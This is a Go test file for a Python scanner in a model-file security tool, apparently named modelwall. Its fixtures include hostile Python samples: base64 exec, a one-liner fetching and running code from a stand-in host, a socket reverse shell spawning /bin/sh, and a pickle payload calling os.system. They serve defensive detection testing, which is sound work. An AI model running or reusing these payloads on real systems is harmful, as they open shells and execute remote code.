package python

import (
	"errors"
	"strings"
	"testing"

	"modelwall/scan"
	"modelwall/scan/scantest"
)

func TestAcceptance(t *testing.T) {
	scantest.Run(t, New(), []scantest.Sample{
		{Name: "modeling.py", Data: []byte("from transformers import PreTrainedModel\n\n\nclass M(PreTrainedModel):\n    def forward(self, x):\n        return x\n")},
		{Name: "setup.py", Data: []byte("import subprocess\nfrom setuptools import setup\nrev = subprocess.check_output(['git', 'rev-parse', 'HEAD'])\nsetup(name='x')\n"), Worst: scan.Low},
		{Name: "no name", Data: []byte("import os\nos.system('touch /tmp/pwned')\n"), Worst: scan.SeveritySuspicious},
		{Name: "payload.py", Data: []byte("import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n"), Worst: scan.SeverityMalicious},
		{Name: "mark.py", Data: []byte("\xef\xbb\xbfimport base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n"), Worst: scan.SeverityMalicious},
		{Name: "one line", Data: []byte("import urllib.request;exec(urllib.request.urlopen('http://192.0.2.1/x').read())"), Worst: scan.SeverityMalicious},
		{Name: "utf7.py", Data: []byte("# coding: utf-7\n#+AAo-import os\n"), Worst: scan.SeveritySuspicious},
		{Name: "shell.py", Data: []byte("import socket,subprocess,os\ns=socket.socket()\ns.connect(('192.0.2.1',44))\nos.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])\n"), Worst: scan.SeverityMalicious},
		{Name: "torchscript.py", Data: []byte("class M(Module):\n  __parameters__ = []\n  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n    return torch.relu(x)\n")},
		{Name: "a function", Data: []byte("def f(x):\n    return x + 1\n")},
	})
}

// TestForeign: what only looks like Python is left to others.
func TestForeign(t *testing.T) {
	for name, text := range map[string]string{
		"JSON":      `{"a": [1, 2, null], "b": true}`,
		"a list":    "[1, 2, 3]\n",
		"CSV":       "a,b,c\n1,2,3\n4,5,6\n",
		"prose":     strings.Repeat("This is a model that was trained on text from the web.\n", 20),
		"Markdown":  "# A model\n\n```python\nimport os\nos.system('id')\n```\n",
		"vocab":     strings.Repeat("hello\nworld\n##ing\n", 50),
		"YAML":      "model:\n  name: x\n  layers: 12\nlist:\n  - a\n  - b\n",
		"go":        "package main\n\nfunc main() {\n\tprintln(1)\n}\n",
		"shell":     "#!/bin/bash\nset -e\nfor i in 1 2 3; do echo $i; done\nif [ -f x ]; then cat x; fi\n",
		"numbers":   strings.Repeat("0.1 0.2 0.3\n", 100),
		"UTF-16":    "\xff\xfei\x00m\x00p\x00o\x00r\x00t\x00",
		"one value": "42\n",
		"settings":  "a = 1\nb = 'x'\n",
	} {
		t.Run(name, func(t *testing.T) {
			s := New()
			if !s.Match(scantest.Probe("x", []byte(text))) {
				return
			}
			r, err := scantest.Scan(s, "x", []byte(text))
			if !errors.Is(err, scan.ErrForeign) || len(r.Findings) > 0 {
				t.Errorf("error %v, findings %+v; want foreign", err, r.Findings)
			}
		})
	}
}

// TestMembers: what a program unpacks is handed on.
func TestMembers(t *testing.T) {
	r, err := scantest.Scan(New(), "x.py", []byte("import pickle, base64\npickle.loads(base64.b64decode('gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=='))\n"))
	if err != nil || len(r.Members) != 1 || !strings.Contains(string(r.Members[0].Data), "posix") {
		t.Errorf("error %v, members %q", err, r.Members)
	}
}

func FuzzPython(f *testing.F) {
	for _, s := range []string{
		"import os\nos.system('id')\n", "exec(__import__('base64').b64decode('aW1wb3J0IG9z'))",
		"f\"{__import__('os').system(f'{x!r:>{w}}')}\"\n", "class A(B, metaclass=C):\n  @d\n  async def f(self, /, a, *b, c=1, **k) -> x: return [y async for y in z if y]\n",
		"match x:\n  case {'a': [1, *_], **r} if r: pass\n", "'\\x41' 'b' rb'\\' \"\"\"\n\"\"\"\n", "# coding: gbk\nx = 1\n", "x = lambda *a, **k: (yield)\n",
		"with (open(a) as b, c as d): pass\nfor x, *y in z: del x[1:2, ...]\n", "a = b = c; d += 1; e: int = 3; print >>f, g\nexec 'x' in y\n",
	} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, data []byte) { scantest.Fuzz(t, New(), data) })
}
